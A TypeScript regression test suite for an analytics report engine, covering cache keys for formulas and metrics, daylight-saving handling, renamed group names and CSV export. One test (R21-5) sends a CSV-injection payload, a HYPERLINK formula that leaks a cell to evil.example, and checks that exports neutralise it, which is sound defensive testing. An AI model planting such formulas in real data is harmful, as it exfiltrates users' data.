import { expect, it } from 'vitest';
import { ingestTenant } from '../ingestion/support.js';
import { firstPartyPlugins } from '../support/plugins.js';
import { describeEngines } from '../support/test-app.js';
import { EXPORTS, RUNS, addDays, purchaseMetric, reportsTenant, seriesOf, type ReportBody } from '../reports/support.js';

const between = (from: string, to: string) => ({ kind: 'between', from, to });

describeEngines(
  'review 21: report engine and event analysis',
  (ctx) => {
    // R21-1: the cache key is the SQL only, but formulas are evaluated in finish(): a second formula over the same metrics gets the first one's numbers.
    it('R21-1 a formula changed on the same metrics is not served from the cache of the old formula', async () => {
      const t = await reportsTenant(ctx.app);
      const base = { timeRange: between(t.D, addDays(t.D, 7)), granularity: 'total', chart: 'table' };
      const formula = (text: string) => ({ id: 'F', kind: 'formula', formula: text, name: '倍数' });
      const double = await t.result({ ...base, metrics: [purchaseMetric('A', 'count'), formula('A * 2')] });
      expect(seriesOf(double, 'F').total).toBe(8); // 4 purchases × 2
      const triple = await t.result({ ...base, metrics: [purchaseMetric('A', 'count'), formula('A * 3')] });
      expect(seriesOf(triple, 'F').total).toBe(12); // served 8 from the cache
    });

    // R21-2: metric ids and aggregates that compile to the same SQL (perUser = count + users; any id) share a cache entry: the answer names other metrics with other numbers.
    it('R21-2 metric ids and aggregates are part of the answer: a perUser query does not answer a count + users query', async () => {
      const t = await reportsTenant(ctx.app);
      const base = { timeRange: between(t.D, addDays(t.D, 7)), granularity: 'total', chart: 'table' };
      const perUser = await t.result({ ...base, metrics: [purchaseMetric('A', 'perUser')] });
      expect(seriesOf(perUser, 'A').total).toBeCloseTo(4 / 3, 10);
      const counts = await t.result({ ...base, metrics: [purchaseMetric('A', 'count'), purchaseMetric('B', 'users')] });
      expect(counts.series.map((s) => [s.metric, s.total])).toEqual([
        ['A', 4],
        ['B', 3],
      ]);
      const renamed = await t.result({ ...base, metrics: [purchaseMetric('X', 'perUser')] });
      expect(renamed.series.map((s) => s.metric)).toEqual(['X']);
      expect(renamed.metrics.map((m) => m.id)).toEqual(['X']);
    });

    // R21-3: the previous period is "from − (to − from)" in milliseconds; across a DST change it starts an hour late in local time and drops the first hour of its first day.
    it('R21-3 the previous period of a week containing a DST change starts at local midnight (America/New_York)', async () => {
      const t = await ingestTenant(ctx.app, { timeZone: 'America/New_York' });
      const res = await t.collect('batch', {
        batch: [
          // 2026-03-01 00:30 EST: the first hour of the previous period of 2026-03-08..14 (DST starts 03-08).
          {
            type: 'track',
            userId: 'n-1',
            event: 'purchase',
            properties: { amount: 1, sku: 'a' },
            timestamp: '2026-03-01T05:30:00Z',
          },
        ],
      });
      expect(res.statusCode).toBe(200);
      await t.drain();
      const run = await t.staff.request('POST', RUNS, {
        model: 'event',
        query: {
          metrics: [purchaseMetric('A', 'count')],
          timeRange: between('2026-03-08', '2026-03-14'),
          granularity: 'day',
          compare: true,
          chart: 'line',
        },
      });
      expect(run.statusCode, JSON.stringify(run.body)).toBe(200);
      const body = run.body as ReportBody;
      expect(body.previous!.buckets[0]).toBe('2026-03-01');
      expect(body.previous!.series[0]!.values[0]).toBe(1); // 0: the event is outside [03-01 01:00, 03-08 00:00)
      expect(body.previous!.series[0]!.total).toBe(1);
    });

    // R21-4: names (groups, metadata) are not in the SQL, so a renamed group is shown under its old name from the cache for up to 24 h.
    it('R21-4 a renamed compared group is shown by its new name', async () => {
      const t = await reportsTenant(ctx.app);
      const group = await t.staff.request('POST', '/api/v1/console/groups/static', { name: '旧名' });
      expect(group.statusCode).toBe(201);
      const query = {
        metrics: [purchaseMetric('A', 'count')],
        groups: [{ type: 'group', groupId: group.body.id }],
        timeRange: between(t.D, addDays(t.D, 7)),
        granularity: 'total',
        chart: 'table',
      };
      expect((await t.result(query)).groups).toEqual([{ name: '旧名' }]);
      const renamed = await t.staff.request('PATCH', `/api/v1/console/groups/${group.body.id}`, { name: '新名' });
      expect(renamed.statusCode, JSON.stringify(renamed.body)).toBe(200);
      expect((await t.result(query)).groups).toEqual([{ name: '新名' }]);
    });

    // R21-5: dimension values come from SDK payloads and are written raw into the CSV: a value starting with = + - @ is a formula when opened in Excel (CSV injection).
    it('R21-5 an exported CSV does not carry spreadsheet formulas from event properties', async () => {
      const t = await reportsTenant(ctx.app);
      const sent = await t.collect('track', {
        userId: 'u-4',
        event: 'purchase',
        properties: { amount: 1, sku: '=HYPERLINK("http://evil.example/?"&A1,"点我")' },
        timestamp: new Date(Date.parse(`${addDays(t.D, 2)}T12:00:00+08:00`)).toISOString(),
      });
      expect(sent.statusCode).toBe(200);
      await t.drain();
      const csv = await t.staff.request('POST', EXPORTS, {
        model: 'event',
        query: {
          metrics: [purchaseMetric('A', 'count')],
          dimensions: [{ kind: 'eventProperty', property: 'sku' }],
          timeRange: between(t.D, addDays(t.D, 7)),
          granularity: 'total',
          chart: 'table',
        },
        format: 'csv',
      });
      expect(csv.statusCode).toBe(200);
      const cells = String(csv.body)
        .replace(/^\uFEFF/, '')
        .trim()
        .split('\n')
        .map((line) => line.replace(/^"/, ''));
      expect(cells.filter((cell) => /^[=+\-@]/.test(cell))).toEqual([]);
    });

    // R21-6: hour buckets are listed in local wall-clock hours: the spring-forward day lists 02:00, an hour that never existed (24 buckets for a 23-hour day).
    it('R21-6 the spring-forward day has 23 hour buckets, without the missing 02:00 (America/New_York)', async () => {
      const t = await ingestTenant(ctx.app, { timeZone: 'America/New_York' });
      const res = await t.collect('batch', {
        batch: [
          {
            type: 'track',
            userId: 'n-1',
            event: 'purchase',
            properties: { amount: 1, sku: 'a' },
            timestamp: '2026-03-08T07:30:00Z',
          },
        ],
      });
      expect(res.statusCode).toBe(200);
      await t.drain();
      const run = await t.staff.request('POST', RUNS, {
        model: 'event',
        query: {
          metrics: [purchaseMetric('A', 'count')],
          timeRange: between('2026-03-08', '2026-03-08'),
          granularity: 'hour',
          chart: 'line',
        },
      });
      expect(run.statusCode, JSON.stringify(run.body)).toBe(200);
      const body = run.body as ReportBody;
      expect(body.buckets).not.toContain('2026-03-08 02:00');
      expect(body.buckets).toHaveLength(23);
    });
  },
  { plugins: firstPartyPlugins },
);
